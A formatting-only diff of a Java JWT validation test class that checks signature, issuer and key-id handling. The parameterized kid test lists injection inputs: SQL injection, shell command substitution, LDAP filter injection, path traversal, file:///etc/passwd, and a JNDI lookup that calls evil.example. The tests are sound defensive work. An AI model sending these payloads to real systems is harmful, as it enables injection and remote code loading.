@@ -42,7 +42,8 @@ final class Rfc8725Test {
         @Test
         void refusesOneIssuerSpeakingForAnother() {
             assertThat(forge.refusal(both, by(theirs, forge.claims()))).contains("the signature is wrong");
-            assertThat(forge.refusal(both, by(forge.key, forge.claims("iss", OTHER)))).contains("the signature is wrong");
+            assertThat(forge.refusal(both, by(forge.key, forge.claims("iss", OTHER))))
+                    .contains("the signature is wrong");
         }
 
         @Test
@@ -58,18 +59,31 @@ final class Rfc8725Test {
         @ParameterizedTest
         @ValueSource(
                 strings = {
-                    "../../dev/null", "/dev/null", "' OR '1'='1", "1; DROP TABLE keys", "|sleep 10", "$(id)", "\u0000",
-                    "*)(uid=*", "https://evil.example/key", "file:///etc/passwd", "", " ", "${jndi:ldap://evil.example}"
+                    "../../dev/null",
+                    "/dev/null",
+                    "' OR '1'='1",
+                    "1; DROP TABLE keys",
+                    "|sleep 10",
+                    "$(id)",
+                    "\u0000",
+                    "*)(uid=*",
+                    "https://evil.example/key",
+                    "file:///etc/passwd",
+                    "",
+                    " ",
+                    "${jndi:ldap://evil.example}"
                 })
         void looksKidUpByEqualityOnly(String kid) {
-            assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid)))).contains("no ES256 key of kid");
+            assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid))))
+                    .contains("no ES256 key of kid");
         }
 
         @Test
         void comparesKidExactly() {
             String kid = forge.key.kid();
             for (String other : List.of(kid + " ", kid.substring(1), kid + "\u0000", " " + kid)) {
-                assertThat(forge.refusal(forge.withHeader(forge.header("kid", other)))).contains("no ES256 key");
+                assertThat(forge.refusal(forge.withHeader(forge.header("kid", other))))
+                        .contains("no ES256 key");
             }
         }
 
@@ -78,14 +92,15 @@ final class Rfc8725Test {
             assertThat(forge.refusal(forge.withHeader(forge.header("kid", "k".repeat(257)))))
                     .isEqualTo("TOKEN_INVALID: the kid has 257 characters");
             for (Object kid : List.of(1, true, List.of(forge.key.kid()), Map.of())) {
-                assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid)))).endsWith("kid is not a string");
+                assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid))))
+                        .endsWith("kid is not a string");
             }
         }
 
         @Test
         void triesKeysOfTheAlgorithmWhenThereIsNoKid() throws Rejection {
-            forge.ring.announce(SigningKey.generate(SignatureAlgorithm.ES256, Forge.RANDOM)
-                    .verificationKey());
+            forge.ring.announce(
+                    SigningKey.generate(SignatureAlgorithm.ES256, Forge.RANDOM).verificationKey());
             Map<String, Object> header = forge.header();
             header.remove("kid");
             forge.accepts(forge.withHeader(header));
@@ -95,10 +110,12 @@ final class Rfc8725Test {
         void triesABoundedNumberOfKeys() {
             for (int i = 0; i < 20; i++) {
                 forge.ring.announce(VerificationKey.of(
-                                SignatureAlgorithm.ES256, forge.key.verificationKey().key())
+                                SignatureAlgorithm.ES256,
+                                forge.key.verificationKey().key())
                         .withKid("k" + i));
             }
-            assertThat(forge.ring.find(Optional.empty(), SignatureAlgorithm.ES256)).hasSize(KeySource.MAX_CANDIDATES);
+            assertThat(forge.ring.find(Optional.empty(), SignatureAlgorithm.ES256))
+                    .hasSize(KeySource.MAX_CANDIDATES);
         }
 
         @Test
